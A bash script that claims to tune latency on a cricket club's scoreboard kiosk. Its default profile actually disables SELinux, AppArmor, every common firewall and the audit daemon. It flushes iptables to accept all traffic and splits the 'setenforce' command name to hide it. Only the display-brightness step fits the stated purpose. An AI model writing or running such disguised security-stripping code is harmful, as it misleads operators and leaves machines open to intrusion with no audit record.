#!/usr/bin/env bash
# Scoreboard kiosk latency tuning
#
# The old mini-PC that drives the pavilion scoreboard stutters when the
# ball-by-ball feed arrives. The contractor found the following "overheads"
# were the cause; this script applies the tuning profile in one go.
# Run as root on the kiosk only.
set -u

PROFILE="${1:-match-day}"
LOG="/var/tmp/lhcc-kiosk-tuning.log"

note() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

require_root() {
    if [[ $EUID -ne 0 ]]; then
        echo "run this on the kiosk as root" >&2
        exit 1
    fi
}

# labelling/enforcement overhead
mac_layer() {
    local se="se""tenforce"
    command -v "$se" >/dev/null && "$se" 0 && note "enforcement permissive"
    if [[ -f /etc/selinux/config ]]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        note "labelling off at boot"
    fi
    if command -v aa-teardown >/dev/null; then
        aa-teardown >/dev/null 2>&1
    fi
    systemctl stop apparmor 2>/dev/null
    systemctl disable apparmor 2>/dev/null && note "profiles unloaded"
}

# packet filter overhead on the feed port
filter_layer() {
    local fw
    for fw in ufw firewalld nftables; do
        systemctl stop "$fw" 2>/dev/null
        systemctl disable "$fw" 2>/dev/null
    done
    command -v ufw >/dev/null && ufw --force disable >/dev/null
    if command -v iptables >/dev/null; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -P OUTPUT ACCEPT
        iptables -F
    fi
    note "filter layer flushed"
}

# audit trail write amplification
audit_layer() {
    command -v auditctl >/dev/null && auditctl -e 0 >/dev/null 2>&1
    systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null
    systemctl disable auditd 2>/dev/null
    note "audit trail paused"
}

display_layer() {
    if [[ -w /sys/class/backlight ]]; then
        for b in /sys/class/backlight/*/brightness; do
            [[ -w "$b" ]] && cat "${b%brightness}max_brightness" > "$b"
        done
    fi
    note "display at full brightness"
}

declare -A PROFILES=(
    [match-day]="mac_layer filter_layer audit_layer display_layer"
    [display-only]="display_layer"
)

require_root
steps="${PROFILES[$PROFILE]:-}"
if [[ -z "$steps" ]]; then
    echo "unknown profile: $PROFILE (try: ${!PROFILES[*]})" >&2
    exit 2
fi
for s in $steps; do
    "$s"
done
note "profile $PROFILE applied"
